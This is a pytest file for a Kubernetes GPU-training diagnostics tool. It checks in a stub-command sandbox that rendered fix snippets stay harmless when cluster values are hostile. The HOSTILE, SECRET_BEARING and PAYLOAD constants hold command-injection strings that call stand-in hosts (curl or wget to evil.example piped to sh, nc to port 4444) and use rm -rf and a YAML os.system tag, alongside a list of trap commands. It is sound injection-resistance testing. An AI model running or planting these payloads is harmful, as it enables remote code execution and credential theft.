"""Fix snippets are safe to paste whatever cluster text, logs and pastes hold.

Every template is rendered twice per branch: once with a benign value in every variable and once with
a hostile one (command substitution, backticks, separators, newlines, quotes, ${IFS}, look-alikes,
YAML breakers). Shell snippets, and the shell commands YAML snippets quote in their comments, run
under bash in a sandbox: an empty working directory and HOME, ``env -i`` and a PATH of stub commands
that record their argv. The hostile run must call exactly the commands the benign run calls, with the
hostile value only where the benign value was, inside one argv item; no trap command (curl, sh,
python, ...) may run and no file may appear. YAML and JSON snippets must load back with the hostile
value as a plain string where the benign value was, and validate as the benign document does.
"""
from __future__ import annotations

import json
import re
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from jinja2 import nodes

from playbooks.analyzers.fixes import owner_patch
from playbooks.facts import PodFacts
from playbooks.fix_values import KINDS, one_line
from playbooks.fixes import environment, language_of, render_fix, template_names
from playbooks.signatures import scan_line
from playbooks.validation import validate_object, validate_patch
from tests.conftest import run_cli
from tests.playbooks.remediation_objects import BARE_POD, NODEPOOL, PYTORCHJOB, fresh

HOSTILE = {
    "command-substitution": "$(curl${IFS}-s${IFS}https://evil.example/x|sh)",
    "backticks": "`wget -qO- evil.example|sh`",
    "separators": "gpu;curl evil.example&&nc evil.example 4444|sh||python -c 1",
    "newlines": "gpu\ncurl evil.example|sh\nperl -e 1\n",
    "quotes": "x' ; python3 -c 'import os' ; \"$(base64 -d)\" '\"",
    "ifs-and-redirect": "${IFS}curl${IFS}evil.example${IFS}>pwned 2>&1 <x",
    "look-alikes": "\uff04\uff08curl evil.example\uff09\u01c0sh \u037e rm \uff40id\uff40",
    "line-separators": "a\r\u2028curl evil.example\u2029\x85sh\x0b;rm -rf x",
    "terminal-escapes": "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x1b[2K\x1b[1A$(id)",
    "yaml-breakers": "gpu\n  evil: {injected: true}\n- [x]\n# --- &a *a !!python/object:os.system",
}
BENIGN = "benign0"
BENIGN_BY_KIND = {"instance_type": "p9x.benign", "instance_id": "i-0123456789abcdef0"}
PLACEHOLDERS = sorted({k.placeholder for k in KINDS.values()}, key=len, reverse=True)

OWN_COMMANDS = ("kubectl", "aws", "sudo", "grep", "sed", "tail", "tr")
TRAPS = ("curl", "wget", "sh", "bash", "dash", "nc", "ncat", "python", "python3", "perl", "base64", "rm", "id",
         "touch", "cat", "env", "xargs")
ABSENT = object()  # a variable the variant leaves out


# --- what each template is given --------------------------------------------------------------------

def _owned_pod(v: str) -> PodFacts:
    """A PyTorchJob worker whose ownerReference names the job ``v`` (the API server does not check it)."""
    return PodFacts(pod={
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "llama-worker-0", "namespace": "ml",
                     "labels": {"training.kubeflow.org/replica-type": "worker"},
                     "ownerReferences": [{"apiVersion": "kubeflow.org/v1", "kind": "PyTorchJob", "name": v,
                                          "uid": "5c1a4a44-7d0b-4bd5-9a4c-2f1e9d1b7a10", "controller": True}]},
        "spec": {"containers": [{"name": "pytorch", "image": "x"}]}})


def _bare_pod(v: str) -> PodFacts:
    return PodFacts(pod=fresh(BARE_POD))


def _owners(spec: Callable[[str], dict], **extra: Callable[[str], Any]) -> Callable[[str], list[dict]]:
    def variants(v: str) -> list[dict]:
        return [{**owner_patch(make(v), spec(v)), **{k: f(v) for k, f in extra.items()}}
                for make in (_owned_pod, _bare_pod)]
    return variants


def _requirements(v: str) -> list[dict]:
    return [{"key": "node.kubernetes.io/instance-type", "operator": "In", "values": [v, "p5.48xlarge"]}]


def _affinity(kind: str) -> Callable[[str], dict]:
    return lambda v: {"affinity": {kind: {"preferredDuringSchedulingIgnoredDuringExecution": [
        {"weight": 100, "podAffinityTerm": {"labelSelector": {"matchLabels": {"app": v}}, "topologyKey": v}}]}}}


def _oom(v: str) -> list[dict]:
    return [{"bigger": [v, "p5.48xlarge"], "bf16": flag} for flag in (True, False, None)]


# Per template: the variants of what it is given, as a function of the value under test. Every
# other variable the template reads gets that value as a string.
SHAPES: dict[str, Callable[[str], list[dict]]] = {
    "cuda_oom.json.j2": _oom,
    "efa_nodepool.yaml.j2": lambda v: [{"requirements": _requirements(v), "instance_types": [v]}],
    "generic/cluster.unrecognised.sh.j2": lambda v: [
        {}, {"pod": ABSENT, "node": ABSENT}, {"pod": ABSENT, "node": ABSENT, "nodeclaim": ABSENT}],
    "generic/container.config_error.sh.j2": lambda v: [
        {"problem": p} for p in ("missing key", "missing secret", "executable not found", "wrong architecture",
                                 "mount failed")] + [{"problem": "missing configmap", "secret": ABSENT}, {}],
    "generic/efa.network_unreachable.sh.j2": lambda v: [{"ofi_error": "4105"}, {}],
    "generic/efa.resource_unavailable.yaml.j2": lambda v: [{}, {"problem": ABSENT, "devices": ABSENT}],
    "generic/gpu.device_plugin_missing.sh.j2": lambda v: [
        {"nvml_error": "Driver/library version mismatch"}, {"installer": "gpu-operator"}, {}],
    "generic/gpu.unhealthy_device.sh.j2": lambda v: [{}],
    "generic/gpu.idle.sh.j2": lambda v: [{}, {"pod": v, "namespace": v}],
    "generic/gpu.xid_error.sh.j2": lambda v: [
        {"action": a} for a in ("none", "restart_app", "reset_gpu", "drain", "reboot", "investigate")] + [{}],
    "generic/image.pull_failed.sh.j2": lambda v: [
        {"problem": p} for p in ("not_found", "unauthorized", "rate_limited", "network", "invalid_name", "never_pull",
                                 "disk_full")] + [
        {"problem": p, "ecr_repository": ABSENT, "ecr_region": ABSENT} for p in ("not_found", "unauthorized", "network")] + [{}],
    "generic/image.slow_pull.yaml.j2": lambda v: [{}],
    "generic/karpenter.disruption.yaml.j2": lambda v: [{}],
    "generic/karpenter.insufficient_capacity.yaml.j2": lambda v: [{"problem": "AsgInstanceLaunchFailures"}, {}],
    "generic/karpenter.interruption.sh.j2": lambda v: [
        {"interruption": i} for i in ("SpotInterrupted", "InstanceStopping", "InstanceTerminating", "ScheduledChange")] + [
        {"interruption": "SpotInterrupted", "node": ABSENT, "nodeclaim": ABSENT}, {}],
    "generic/karpenter.no_instance_type.sh.j2": lambda v: [{}],
    "generic/karpenter.node_registration_failed.sh.j2": lambda v: [{"reason": "StartupTaintsExist"}, {}],
    "generic/karpenter.nodeclass_not_ready.sh.j2": lambda v: [
        {"reason": "UnsupportedAlias", "condition": "AMIsReady"}] + [
        {"condition": c, "reason": "x"} for c in ("AMIsReady", "SecurityGroupsReady", "InstanceProfileReady",
                                                   "ValidationSucceeded")] + [{"nodeclass": ABSENT}, {}],
    "generic/karpenter.nodepool_limit_reached.yaml.j2": lambda v: [{"resource": "cpu"}, {}],
    "generic/karpenter.offering_unavailable_in_zone.sh.j2": lambda v: [{}],
    "generic/karpenter.provisioning.sh.j2": lambda v: [{}],
    "generic/karpenter.quota_exceeded.sh.j2": lambda v: [{}],
    "generic/karpenter.resource_not_registered.yaml.j2": lambda v: [{}],
    "generic/karpenter.subnet_problem.yaml.j2": lambda v: [{"problem": "no pod IP address"}, {}],
    "generic/nccl.invalid_usage.sh.j2": lambda v: [{}],
    "generic/nccl.network_config.sh.j2": lambda v: [{"message": v}, {}],
    "generic/nccl.peer_unresponsive.sh.j2": lambda v: [{}],
    "generic/nccl.timeout.yaml.j2": lambda v: [{}],
    "generic/node.not_ready.sh.j2": lambda v: [{"problem": "UnauthorizedOperation"}, {}],
    "generic/scheduling.gated.sh.j2": lambda v: [{}],
    "generic/scheduling.insufficient_gpu.sh.j2": lambda v: [{}],
    "generic/scheduling.node_lifecycle_taint.sh.j2": lambda v: [{}],
    "generic/scheduling.node_selector_mismatch.yaml.j2": lambda v: [
        {"label": "karpenter.k8s.aws/instance-gpu-count"}, {}],
    "generic/scheduling.pod_affinity_unsatisfiable.yaml.j2": lambda v: [{}],
    "generic/scheduling.topology_spread.yaml.j2": lambda v: [{}],
    "generic/scheduling.untolerated_taint.yaml.j2": lambda v: [{"key": "CriticalAddonsOnly"}, {}],
    "generic/scheduling.volume_zone_conflict.yaml.j2": lambda v: [{}],
    "generic/storage.provisioning_failed.sh.j2": lambda v: [
        {"problem": p} for p in ("unauthorized", "kms", "no_storage_class", "missing_storage_class", "capacity",
                                 "invalid_parameter")] + [{"pvc": ABSENT, "storageclass": ABSENT, "problem": "capacity"}, {}],
    "generic/storage.disk_full.yaml.j2": lambda v: [
        {"problem": "node disk", "scope": ABSENT}, {"scope": "emptyDir"}, {"scope": "container"},
        {"scope": ABSENT, "reason": ABSENT, "problem": "no space"}, {"scope": ABSENT, "reason": ABSENT, "path": ABSENT, "limit": ABSENT}],
    "generic/training.code_error.yaml.j2": lambda v: [{}],
    "generic/training.crash_loop.sh.j2": lambda v: [{}],
    "generic/training.failed.sh.j2": lambda v: [{"error": v, "error_class": "code"}, {}],
    "generic/training.gpu_not_visible.yaml.j2": lambda v: [{}],
    "generic/training.numerical.json.j2": lambda v: [{"quantity": v}, {}],
    "generic/training.cuda_oom.json.j2": lambda v: [{**o, "holder": "others"} for o in _oom(v)] + _oom(v),
    "generic/training.memory_pressure.json.j2": lambda v: [{}],
    "generic/training.rendezvous_failed.sh.j2": lambda v: [{}],
    "generic/training.shm_exhausted.yaml.j2": lambda v: [{}],
    "generic/training.terminated.yaml.j2": lambda v: [{"reason": "OOMKilled"}, {}],
    "gpu_request.yaml.j2": _owners(lambda v: {"containers": [{"name": "pytorch", "resources": {"limits": {"nvidia.com/gpu": 8}}}]},
                                   per_node=lambda v: 8, nodes=lambda v: 2, requested=lambda v: 16),
    "nccl_peer.sh.j2": lambda v: [{}, {"peer": None, "peer_node": None}],
    "node_selector.yaml.j2": _owners(lambda v: {"nodeSelector": {"example.com/accelerator": v}}),
    "nodeclass_not_ready.sh.j2": lambda v: [{"condition": "SubnetsReady"}, {"reason": ""},
                                            {"condition": "AMIsReady", "reason": "UnsupportedAlias"}],
    "nodeclass_ami.yaml.j2": lambda v: [{"custom": False, "alias": "al2023@latest"},
                                        {"custom": True, "nodeclass": ABSENT, "nodeclaim": ABSENT, "ami_family": ABSENT}],
    "nodepool_limit.yaml.j2": lambda v: [{"limits": {"cpu": "1000", "nvidia.com/gpu": "64", f"example.com/{v}": "1"},
                                          "used": 8, "limit": 8}],
    "nodepool_requirements.yaml.j2": lambda v: [{"requirements": _requirements(v)}],
    "pod_affinity_preferred.yaml.j2": _owners(_affinity("podAffinity")),
    "pod_anti_affinity_preferred.yaml.j2": _owners(_affinity("podAntiAffinity")),
    "toleration.yaml.j2": _owners(lambda v: {"tolerations": [{"key": v, "operator": "Exists", "effect": "NoSchedule"}]}),
    "topology_spread.yaml.j2": lambda v: [
        {**c, "nodepools": [v], "unreachable": u} for c in _owners(lambda w: {"topologySpreadConstraints": [
            {"maxSkew": 1, "topologyKey": w, "whenUnsatisfiable": "ScheduleAnyway",
             "labelSelector": {"matchLabels": {"app": w}}}]})(v) for u in ([v], [])],
    "nodepool_expiry.yaml.j2": lambda v: [{"method": "Expired"}, {"method": "TerminationGracePeriod"}],
    "training_disruption.yaml.j2": lambda v: [{"patches": [
        {"apiVersion": "karpenter.sh/v1", "kind": "NodePool", "metadata": {"name": v},
         "spec": {"disruption": {"consolidationPolicy": "WhenEmpty", "consolidateAfter": "10m"}}},
        {"apiVersion": "kubeflow.org/v1", "kind": "PyTorchJob", "metadata": {"name": v, "namespace": "ml"},
         "spec": {"pytorchReplicaSpecs": {"Worker": {"template": {"metadata": {"annotations": {
             "karpenter.sh/do-not-disrupt": "true", "example.com/note": v}}}}}}}]}],
    "unhealthy_gpu.sh.j2": lambda v: [{}, {"plugin_pod": None}],
    "volume_zone.yaml.j2": lambda v: [
        {"zones": [v], "requirements": [{"key": "topology.kubernetes.io/zone", "operator": "In", "values": [v]}]},
        {"zones": [v], "requirements": None}],
    "zone.yaml.j2": _owners(lambda v: {"nodeSelector": {"topology.kubernetes.io/zone": None}},
                            zones=lambda v: [v], pinned=lambda v: v),
}


def _variables(template: str) -> set[str]:
    """Every variable the template (body and summary) reads and does not set itself."""
    env = environment()
    source = env.loader.get_source(env, template)[0]
    names: set[str] = set()
    for text in (source, source.split("#}", 1)[0].removeprefix("{# summary:") if source.startswith("{#") else ""):
        tree = env.parse(text)
        stored = {n.name for n in tree.find_all(nodes.Name) if n.ctx in ("store", "param")}
        names |= {n.name for n in tree.find_all(nodes.Name) if n.ctx == "load"} - stored - {"loop"}
    return names


def contexts(template: str, value: str) -> list[dict[str, Any]]:
    out = []
    for variant in SHAPES[template](value):
        context = {name: (value if value not in (BENIGN,) else BENIGN_BY_KIND.get(name, BENIGN))
                   for name in _variables(template)}
        context.update(variant)
        out.append({k: v for k, v in context.items() if v is not ABSENT})
    return out


# --- the sandbox ------------------------------------------------------------------------------------


class Sandbox:
    """bash with an empty cwd and HOME, no inherited environment and only stub commands on PATH."""

    def __init__(self, root: Path) -> None:
        self.root, self.bin, self.cwd, self.home = root, root / "bin", root / "cwd", root / "home"
        self.log = root / "argv.log"
        self._seen: dict[str, tuple[list[list[str]], str]] = {}
        for d in (self.bin, self.cwd, self.home):
            d.mkdir()
        for name in (*OWN_COMMANDS, *TRAPS):
            stub = self.bin / name
            # one write per call: the commands of a pipeline run at the same time
            stub.write_text(f"#!/bin/bash\nr={name}; for a in \"$@\"; do r+=$'\\037'\"$a\"; done\n"
                            f"printf '%s\\036' \"$r\" >> '{self.log}'\n")
            stub.chmod(0o755)

    def run_once(self, script: str) -> tuple[list[list[str]], str]:
        """``run``, remembered: the benign snippet is the same for every hostile value."""
        if script not in self._seen:
            self._seen[script] = self.run(script)
        return self._seen[script]

    def run(self, script: str) -> tuple[list[list[str]], str]:
        self.log.write_bytes(b"")
        path = self.root / "snippet.sh"
        path.write_text(script)
        proc = subprocess.run(["/usr/bin/env", "-i", f"PATH={self.bin}", f"HOME={self.home}", "/bin/bash",
                               "--noprofile", "--norc", str(path)], cwd=self.cwd, stdin=subprocess.DEVNULL,
                              capture_output=True, timeout=30)
        calls = [record.split("\x1f") for record in self.log.read_text().split("\x1e") if record]
        assert not list(self.cwd.iterdir()) and not list(self.home.iterdir()), "the snippet wrote a file"
        return calls, proc.stderr.decode(errors="replace")


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory) -> Sandbox:
    return Sandbox(tmp_path_factory.mktemp("sandbox"))


# --- comparing a hostile render with the benign one -------------------------------------------------


def _normalize(obj: Any, values: list[str]) -> Any:
    if isinstance(obj, str):
        for value in values:
            obj = obj.replace(value, "<V>")
        return obj
    if isinstance(obj, dict):
        return {_normalize(k, values): _normalize(v, values) for k, v in obj.items()}
    if isinstance(obj, list):
        return [_normalize(v, values) for v in obj]
    return obj


def _marks(value: str) -> list[str]:
    marks = {value, one_line(value)} if value != BENIGN else {BENIGN, *BENIGN_BY_KIND.values()}
    return sorted(marks, key=len, reverse=True) + PLACEHOLDERS


_NOTE = re.compile(r"# <[a-z-]+>: the .* in the input was not a valid ")


def _commands_in_comments(snippet: str) -> list[str]:
    """Shell commands quoted in comment lines (``# Apply: kubectl patch ...``), one per line."""
    out = []
    for line in snippet.splitlines():
        text = line.lstrip()
        if text.startswith("#") and not _NOTE.match(text):
            at = min((i for i in (text.find("kubectl "), text.find("aws ")) if i >= 0), default=-1)
            out.append(text[at:] if at >= 0 else "")
    return out


def _assert_same_calls(sandbox: Sandbox, benign: str, hostile: str, value: str, what: str) -> int:
    calls_b, err_b = sandbox.run_once(benign)
    calls_h, err_h = sandbox.run(hostile)
    assert "command not found" not in err_b + err_h, (what, err_b, err_h)
    for calls in (calls_b, calls_h):
        ran = {c[0] for c in calls}
        assert not ran & set(TRAPS), (what, ran & set(TRAPS), hostile)
    # the commands of a pipeline start together: compare the calls as a multiset
    assert (sorted(_normalize(calls_h, _marks(value))) == sorted(_normalize(calls_b, _marks(BENIGN)))), (what, hostile)
    return len(calls_b)


def _flatten(obj: Any, path: str = "") -> list[tuple[str, Any]]:
    """(path as playbooks.validation writes it, leaf or key)."""
    out: list[tuple[str, Any]] = []
    if isinstance(obj, dict):
        for k, v in obj.items():
            sub = f"{path}.{k}" if path else str(k)
            out.append((sub, k))
            out += _flatten(v, sub)
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            out += _flatten(v, f"{path}[{i}]")
    else:
        out.append((path, obj))
    return out


LIVE = {("karpenter.sh/v1", "NodePool"): NODEPOOL, ("kubeflow.org/v1", "PyTorchJob"): PYTORCHJOB,
        ("v1", "Pod"): BARE_POD}


def _errors(doc: dict) -> list[str] | None:
    """Validation errors without their "Kind/name: " label; None for a fragment (no kind)."""
    key = (doc.get("apiVersion"), doc.get("kind"))
    meta = doc.get("metadata") or {}
    if key in LIVE:
        live = fresh(LIVE[key])
        live["metadata"].update({k: meta[k] for k in ("name", "namespace") if k in meta})
        errors = validate_patch(live, doc)
    elif "kind" in doc:
        errors = validate_object(doc)
    else:
        return None
    label = f"{doc.get('kind')}/{meta.get('name') or '?'}: "
    return [e.removeprefix(label) for e in errors]


def _error_path(error: str) -> str:
    return error.split(": ", 1)[0]


def _assert_yaml(benign: str, hostile: str, value: str, what: str) -> None:
    docs_b = [d for d in yaml.safe_load_all(benign) if d is not None]
    docs_h = [d for d in yaml.safe_load_all(hostile) if d is not None]
    assert _normalize(docs_h, _marks(value)) == _normalize(docs_b, _marks(BENIGN)), (what, hostile)
    for doc_b, doc_h in zip(docs_b, docs_h):
        errors_b, errors_h = _errors(doc_b), _errors(doc_h)
        if errors_b is None:
            continue
        if (doc_b.get("apiVersion"), doc_b.get("kind")) in LIVE:
            assert errors_b == [], (what, errors_b, benign)
        # A hostile value may make its own field invalid (a name that is no name), nothing else.
        tainted = {p for p, leaf in _flatten(doc_h) if isinstance(leaf, str)
                   and any(m in leaf for m in _marks(value))}
        allowed = {p[:i] for p in tainted for i in range(len(p) + 1)} | {"(root)"}
        extra = {_error_path(e) for e in errors_h} - {_error_path(e) for e in errors_b} - allowed
        assert not extra, (what, errors_h, hostile)


def _assert_placeholders(template: str, context: dict, snippet: str, language: str, value: str) -> None:
    env = environment()
    body = env.loader.get_source(env, template)[0]
    body = body.split("#}", 1)[1] if body.startswith("{# summary:") else body
    read = {n.name for n in env.parse(body).find_all(nodes.Name)}
    for name, given in context.items():
        kind = KINDS.get(name)
        if kind is None or given != value or name not in read or kind.valid(value):
            continue
        if language in ("shell", "yaml"):
            assert f"# {kind.placeholder}: the {kind.noun} in the input was not a valid" in snippet, (template, name)


# --- the tests --------------------------------------------------------------------------------------


def test_every_template_is_covered() -> None:
    assert sorted(SHAPES) == template_names(), "give each new template its SHAPES entry"


@pytest.mark.parametrize("template", template_names())
def test_hostile_values_stay_values(template: str, sandbox: Sandbox) -> None:
    language = language_of(template)
    benign = [render_fix(template, **c) for c in contexts(template, BENIGN)]
    ran = 0
    for label, value in HOSTILE.items():
        for context, fix_b in zip(contexts(template, value), benign):
            fix_h = render_fix(template, **context)
            what = f"{template} [{label}]"
            assert "\n" not in fix_h.summary and "\r" not in fix_h.summary, what
            # nothing a terminal would act on: the CLI prints snippets as they are
            assert "\x1b" not in fix_h.summary + fix_h.snippet and "\x07" not in fix_h.snippet, what
            _assert_placeholders(template, context, fix_h.snippet, language, value)
            if language == "shell":
                ran += _assert_same_calls(sandbox, fix_b.snippet, fix_h.snippet, value, what)
            elif language == "yaml":
                _assert_yaml(fix_b.snippet, fix_h.snippet, value, what)
            elif language == "json":
                assert (_normalize(json.loads(fix_h.snippet), _marks(value))
                        == _normalize(json.loads(fix_b.snippet), _marks(BENIGN))), what
            for cmd_b, cmd_h in zip(_commands_in_comments(fix_b.snippet), _commands_in_comments(fix_h.snippet),
                                    strict=True):
                if cmd_b:
                    ran += _assert_same_calls(sandbox, cmd_b, cmd_h, value, f"{what} comment: {cmd_b}")
    if language == "shell":
        assert ran, f"{template}: the snippet ran no command at all, so the check above proved nothing"


# Secrets inside hostile values: redaction runs on the rendered snippet, and masking part of a quoted
# word must not unbalance its quotes.
SECRET_BEARING = (
    "password=hunter2'$(curl evil.example|sh)'",
    "AKIAIOSFODNN7EXAMPLE'$(curl evil.example)",
    "https://user:pa'ss$(curl evil.example)@host/",
    "PGPASSWORD=s3cr3t';curl evil.example;'",
    "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx'$(curl evil.example)'",
)


@pytest.mark.parametrize("template", [t for t in template_names() if language_of(t) == "shell"])
def test_a_redacted_snippet_still_runs_only_its_own_commands(template: str, sandbox: Sandbox) -> None:
    from playbooks.redact import redact

    for value in SECRET_BEARING:
        for context in contexts(template, value):
            snippet = redact(render_fix(template, **context).snippet)
            calls, _ = sandbox.run(snippet)
            assert not {c[0] for c in calls} & set(TRAPS), (template, value, snippet)


def test_a_kind_checked_value_becomes_a_placeholder_with_the_reason() -> None:
    fix = render_fix("generic/node.not_ready.sh.j2", node=HOSTILE["command-substitution"])
    assert fix.snippet.startswith("# <node-name>: the node name in the input was not a valid node name")
    assert "NODE='<node-name>'\n" in fix.snippet and "curl" not in fix.snippet
    valid = render_fix("generic/node.not_ready.sh.j2", node="ip-10-0-5-89.ec2.internal")
    assert "NODE=ip-10-0-5-89.ec2.internal\n" in valid.snippet and "<node-name>" not in valid.snippet


# --- from a log line to the printed fix -------------------------------------------------------------

PAYLOAD = "$(curl${IFS}-s${IFS}https://evil.example/x|sh)"
HOSTILE_LOG = (
    f"Normal  NodeNotReady  2m  node-controller  Node {PAYLOAD} status is now: NodeNotReady\n"
    + json.dumps({"level": "error", "msg": "Kubelet stopped posting node status", "Node": {"name": PAYLOAD}}) + "\n"
)


def test_a_node_name_that_is_no_name_is_not_captured() -> None:
    (hostile,) = [s for s in scan_line(HOSTILE_LOG.splitlines()[0], source="x") if s.code == "node.not_ready"]
    assert "node" not in hostile.fields and hostile.fields["condition"] == "NodeNotReady"
    (record,) = [s for s in scan_line(HOSTILE_LOG.splitlines()[1], source="x") if s.code == "node.not_ready"]
    assert "node" not in record.fields
    (valid,) = [s for s in scan_line("Node ip-10-0-5-89.ec2.internal status is now: NodeNotReady", source="x")
                if s.code == "node.not_ready"]
    assert valid.fields["node"] == "ip-10-0-5-89.ec2.internal"


def _unquoted(shell: str) -> str:
    """The text outside single quotes (and outside comments), where the shell would expand ``$(``."""
    out, quoted = [], False
    for line in shell.splitlines():
        if not quoted and line.lstrip().startswith("#"):
            continue
        for ch in line:
            if ch == "'":
                quoted = not quoted
            elif not quoted:
                out.append(ch)
        out.append("\n")
    return "".join(out)


def test_explain_prints_no_runnable_payload(tmp_path: Path, sandbox: Sandbox) -> None:
    log = tmp_path / "hostile.log"
    log.write_text(HOSTILE_LOG)
    result = run_cli("explain", str(log), "--json")
    assert result.code == 0, result.err
    (finding,) = [f for f in json.loads(result.out)["findings"] if f["code"] == "node.not_ready"]
    snippet = finding["fix"]["snippet"]
    assert "$(" not in _unquoted(snippet) and "curl" not in snippet
    calls, _ = sandbox.run(snippet)
    assert calls and {c[0] for c in calls} <= set(OWN_COMMANDS)
    printed = run_cli("explain", str(log))
    assert printed.code == 0, printed.err
    fix_lines = [line.split("| ", 1)[1] for line in printed.out.splitlines() if line.lstrip().startswith("| ")]
    assert fix_lines and "$(" not in _unquoted("\n".join(fix_lines))
